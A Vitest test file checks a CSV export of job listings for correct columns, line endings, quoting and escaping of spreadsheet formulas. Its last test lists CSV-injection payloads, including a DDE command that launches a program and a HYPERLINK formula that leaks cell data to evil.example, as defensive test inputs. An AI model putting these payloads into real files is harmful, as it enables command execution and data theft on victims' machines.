import Papa from "papaparse";
import { expect, test } from "vitest";
import type { ExportedJob } from "#web/jobs/data/job-export.ts";
import { toCsv } from "./export-jobs.ts";

const JOB: ExportedJob = {
  id: 7,
  name: "Night Baker",
  status: "active",
  approved: 0,
  closed_reason: null,
  city: "Duluth",
  state: "Minnesota",
  postal_code: "55802",
  start_date: "2026-11-01",
  end_date: "2026-12-01",
  pay_type: 2,
  min_annual_pay: 40_000,
  max_annual_pay: 52_000,
  min_hourly_pay: 19.23,
  max_hourly_pay: 25,
  applications: 3,
  views: 12,
  clicked_apply: 4,
  created: "2026-11-02T03:00:00.123456+00:00",
};

const read = (text: string) => Papa.parse<Record<string, string>>(text.slice(1), { header: true }).data;

test("a job becomes a line with all its columns", () => {
  expect(read(toCsv([JOB]))).toEqual([
    {
      ID: "7",
      Title: "Night Baker",
      Status: "Active",
      Approval: "Awaiting Staff Approval",
      "Closed Because": "",
      City: "Duluth",
      State: "Minnesota",
      "Postal Code": "55802",
      "Start Date": "2026-11-01",
      "End Date": "2026-12-01",
      "Pay Type": "Hourly",
      "Minimum Annual Pay": "40000",
      "Maximum Annual Pay": "52000",
      "Minimum Hourly Pay": "19.23",
      "Maximum Hourly Pay": "25",
      Applications: "3",
      Views: "12",
      "Apply Clicks": "4",
      Posted: "2026-11-01",
    },
  ]);
});

test("the file starts with a UTF-8 byte order mark and has the line ends of RFC 4180", () => {
  const text = toCsv([JOB, { ...JOB, id: 8 }]);
  expect(text.startsWith("\uFEFFID,Title,")).toBe(true);
  expect(text.split("\r\n")).toHaveLength(3);
  expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
});

test("quotes, commas and line breaks in a title survive a round trip", () => {
  for (const name of ['The "Old" Mill', "Cook, Baker", "Two\r\nLines", "Ü — 面包师 🥖", '","', "'quoted'"]) {
    expect(read(toCsv([{ ...JOB, name }]))).toMatchObject([{ Title: name, City: "Duluth" }]);
  }
});

test("values that a spreadsheet would calculate are escaped", () => {
  const formulas = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =cmd|' /C calc'!A0",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    '=HYPERLINK("https://evil.example?x="&A1,"Open")',
    "=1,2",
    '="',
  ];
  for (const name of formulas) {
    const text = toCsv([{ ...JOB, name, city: name }]);
    expect(read(text)).toMatchObject([{ Title: `'${name}`, City: `'${name}`, State: "Minnesota" }]);
  }
});
